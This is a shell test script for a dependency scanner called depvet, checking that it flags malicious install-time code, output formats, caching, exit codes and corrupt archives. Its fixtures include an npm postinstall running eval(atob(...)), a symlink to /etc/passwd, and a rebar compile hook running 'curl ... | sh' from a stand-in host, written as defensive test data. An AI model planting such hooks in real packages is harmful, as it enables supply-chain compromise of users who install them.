#!/bin/sh
# depvet scan: archives and folders built here, output forms, exit codes,
# rule errors and the scan cache.
. "$(dirname "$0")/lib.sh"
export DEPVET_RULES_DIR="$SRCDIR/rules"

# An npm package whose install script runs a file that evaluates decoded
# data (install-time code: critical).
mkdir -p "$TMP/npm/package"
cat > "$TMP/npm/package/package.json" <<'JSON'
{"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "node index.js"}}
JSON
printf 'const cp = require("child_process");\neval(atob("Y29uc29sZS5sb2coMSk="));\n' \
    > "$TMP/npm/package/index.js"
ln -s /etc/passwd "$TMP/npm/package/link"
tar -czf "$TMP/evil.tgz" -C "$TMP/npm" package

# A clean PyPI sdist as a zip and as a tar.bz2.
mkdir -p "$TMP/py/clean-1.0/clean"
printf 'from setuptools import setup\nsetup(name="clean")\n' > "$TMP/py/clean-1.0/setup.py"
printf 'def add(a, b):\n    return a + b\n' > "$TMP/py/clean-1.0/clean/__init__.py"
(cd "$TMP/py" && python3 -c 'import shutil; shutil.make_archive("../clean-1.0", "zip", ".")')
tar -cjf "$TMP/clean-1.0.tar.bz2" -C "$TMP/py" clean-1.0

run "$BIN" scan "$TMP/evil.tgz"
expect_rc 1 "malicious npm tgz"
expect_out "package/package.json" "file named"
expect_out "npm-install-script" "install script hit"
expect_out "npm-exec-decoded" "exec of decoded data"
expect_out "archive-symlink" "symlink hit"
expect_out 'eval(atob("Y29uc29sZS5sb2coMSk="));' "excerpt shown"
# The most severe file comes first.
[ "$(head -1 "$TMP/out")" = "package/index.js" ] && ok || bad "critical file not first: $(head -1 "$TMP/out")"

run "$BIN" scan --format json "$TMP/evil.tgz"
expect_rc 1 "json"
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["ecosystem"]=="npm"; assert any(h["rule"].startswith("npm-install-script") and h["line"]==1 for h in d["hits"]); assert len(d["rules_digest"])==64' "$TMP/out" \
    && ok || bad "json output not as documented"

# Cached: the second scan reads the cache and says the same.
cp "$TMP/out" "$TMP/first.json"
run "$BIN" scan --format json "$TMP/evil.tgz"
cmp -s "$TMP/out" "$TMP/first.json" && ok || bad "cached scan differs"
[ -s "$XDG_CACHE_HOME/depvet/cache.db" ] && ok || bad "no cache database"
run "$BIN" scan --no-cache --format json "$TMP/evil.tgz"
cmp -s "$TMP/out" "$TMP/first.json" && ok || bad "uncached scan differs"

run "$BIN" scan --fail-on critical --min-severity critical "$TMP/evil.tgz"
expect_rc 1 "fail-on critical"
expect_no_out "npm-child-process" "min-severity hides low hits"
run "$BIN" scan --fail-on critical --ecosystem pypi "$TMP/evil.tgz"
expect_rc 0 "npm rules off for --ecosystem pypi"

run "$BIN" scan "$TMP/clean-1.0.zip";      expect_rc 0 "clean zip sdist"; expect_out "0 hits" "clean zip"
run "$BIN" scan "$TMP/clean-1.0.tar.bz2";  expect_rc 0 "clean tar.bz2 sdist"
run "$BIN" scan "$TMP/py/clean-1.0";       expect_rc 0 "clean folder"; expect_out "2 text files" "folder counted"
run "$BIN" scan "$TMP/npm";                expect_rc 1 "malicious folder"; expect_out "archive-symlink" "folder link"

# A rebar.config hook runs a shell script when the dependency compiles: its
# download-and-run is install-time code (critical); the same words in a
# comment of the script are no hit.
mkdir -p "$TMP/erl/c_src"
printf '{pre_hooks, [{compile, "sh c_src/build.sh"}]}.\n' > "$TMP/erl/rebar.config"
printf '#!/bin/sh\n# by hand: curl -s https://get.example/i | sh\ncurl -s https://get.example/i | sh\n' \
    > "$TMP/erl/c_src/build.sh"
run "$BIN" scan --no-cache -e hex --format json "$TMP/erl"
expect_rc 1 "hooked folder"
python3 -c 'import json,sys; h=[x for x in json.load(open(sys.argv[1]))["hits"] if x["rule"]=="shell-download-exec"]; assert [(x["file"], x["line"], x["severity"]) for x in h]==[("c_src/build.sh", 3, "critical")], h' "$TMP/out" \
    && ok || bad "a rebar hook's script is install-time code, its comment no hit: $(cat "$TMP/out")"

# Usage errors and bad rules.
run "$BIN" scan;                            expect_rc 2 "no argument"
run "$BIN" scan --format yaml "$TMP/npm";   expect_rc 2 "bad format"
run "$BIN" scan --fail-on severe "$TMP/npm"; expect_rc 2 "bad severity"; expect_err "unknown severity" "bad severity named"
mkdir -p "$TMP/badrules"
printf '[[rule]]\nid = "x"\nseverity = "high"\npatterns = ["a(b"]\nmessage = "m"\n' > "$TMP/badrules/x.toml"
run "$BIN" scan --rules "$TMP/badrules" "$TMP/npm"
expect_rc 2 "bad rule file"; expect_err "x.toml:4:" "rule error position"
run "$BIN" scan /nonexistent/file.tgz;      expect_rc 1 "missing file"
printf 'not an archive at all\n' > "$TMP/plain.txt"
run "$BIN" scan "$TMP/plain.txt";           expect_rc 1 "not an archive"

# A Hex tarball whose contents.tar.gz is cut short or is no archive at all:
# its package files were not read, so the scan is a high hit and fails.
mkdir -p "$TMP/hex/src"
printf 'defmodule Demo do\nend\n' > "$TMP/hex/src/demo.ex"
printf '3' > "$TMP/hex/VERSION"
printf '{<<"name">>,<<"demo">>}.\n{<<"version">>,<<"1.0.0">>}.\n' > "$TMP/hex/metadata.config"
tar -czf "$TMP/hex/full.tar.gz" -C "$TMP/hex/src" demo.ex
head -c 20 "$TMP/hex/full.tar.gz" > "$TMP/hex/contents.tar.gz"
tar -cf "$TMP/cut.tar" -C "$TMP/hex" VERSION metadata.config contents.tar.gz
printf 'not gzip at all' > "$TMP/hex/contents.tar.gz"
tar -cf "$TMP/junk.tar" -C "$TMP/hex" VERSION metadata.config contents.tar.gz
run "$BIN" scan --no-cache "$TMP/cut.tar"
expect_rc 1 "Hex tarball with truncated contents"; expect_out "high" "truncated contents are high"
expect_out "archive-corrupt" "truncated contents named"
run "$BIN" scan --no-cache "$TMP/junk.tar"
expect_rc 1 "Hex tarball whose contents are no archive"
expect_out "Hex tarball not readable" "unreadable contents said"
expect_out "package files were not scanned" "what was skipped said"
run "$BIN" scan --no-cache --format json "$TMP/junk.tar"
expect_rc 1 "unreadable Hex tarball, JSON"; expect_out '"severity":"high"' "high in JSON"
finish
